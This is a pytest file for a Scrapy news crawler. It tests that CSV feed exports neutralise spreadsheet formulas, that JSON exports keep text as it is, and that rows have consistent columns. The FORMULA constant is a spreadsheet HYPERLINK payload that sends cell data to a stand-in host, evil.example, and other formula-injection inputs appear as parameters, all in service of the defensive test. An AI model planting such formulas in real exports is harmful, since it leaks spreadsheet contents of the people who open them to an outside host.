"""The rows of feed exports: every column in each, and no formula in a spreadsheet."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pytest
from itemadapter import ItemAdapter
from scrapy.exporters import JsonLinesItemExporter
from scrapy.settings import Settings
from scrapy.utils.misc import load_object

from newscrawl import settings
from newscrawl.extensions.feeds import FeedRows, row_of
from newscrawl.items import ArchivedArticle, Metadata, Provenance, Region
from tests.storage.making import make_article

FORMULA = '=HYPERLINK("http://evil.example/?"&A2)'


def archived(**changes) -> ArchivedArticle:
    return ArchivedArticle(make_article(**changes), "fp:1", 0, Path("linyi-news/2026-05-27/000_0.txt"))


@pytest.fixture
def known(monkeypatch):
    """Let the adapters of this process know rows, as a crawl does, and forget them again."""
    adapters = ItemAdapter.ADAPTER_CLASSES.copy()
    monkeypatch.setattr(ItemAdapter, "ADAPTER_CLASSES", adapters)
    FeedRows.from_crawler(None)


def exported(exporter_class, *items) -> str:
    file = io.BytesIO()
    exporter = exporter_class(file, encoding="utf-8")
    exporter.start_exporting()
    for item in items:
        exporter.export_item(item)
    exporter.finish_exporting()
    return file.getvalue().decode()


def csv_exporter():
    own = Settings()
    own.setmodule(settings)
    return load_object(own.getdict("FEED_EXPORTERS")["csv"])


@pytest.mark.parametrize("beginning", ["=1+1", "+1", "-3℃", "@SUM(A1)", "\t=1", "\r=1", "＝1"])
def test_no_cell_is_a_formula(known, beginning):
    item = archived(
        headline=beginning, body=FORMULA, metadata=Metadata(reporters=(FORMULA, "李四"), keywords=("=1",))
    )
    row = next(csv.DictReader(io.StringIO(exported(csv_exporter(), item), newline="")))
    assert row["headline"] == f"'{beginning}"
    assert (row["articleBody"], row["reporters"], row["keywords"]) == (
        f"'{FORMULA}",
        f"'{FORMULA},李四",
        "'=1",
    )
    assert not [cell for cell in row.values() if cell.startswith(("=", "+", "-", "@", "\t", "\r"))]


def test_other_formats_have_the_words_as_they_are(known):
    row = json.loads(exported(JsonLinesItemExporter, archived(body=FORMULA)))
    assert row["articleBody"] == FORMULA


def test_every_row_has_every_column(known):
    found = Metadata(
        source_outlet="临沂日报", provenance={"source_outlet": Provenance("来源:临沂日报", "label 来源")}
    )
    bare, full = archived(metadata=Metadata()), archived(metadata=found)
    assert row_of(bare).keys() == row_of(full).keys()
    rows = list(csv.DictReader(io.StringIO(exported(csv_exporter(), bare, full), newline="")))
    assert [row["sourceOutletRaw"] for row in rows] == ["", "来源:临沂日报"]


def test_a_region_is_more_than_its_name(known):
    row = row_of(archived(metadata=Metadata(region=Region("371300", ("山东省", "临沂市")))))
    assert row["region"] == {"code": "371300", "names": ["山东省", "临沂市"]}
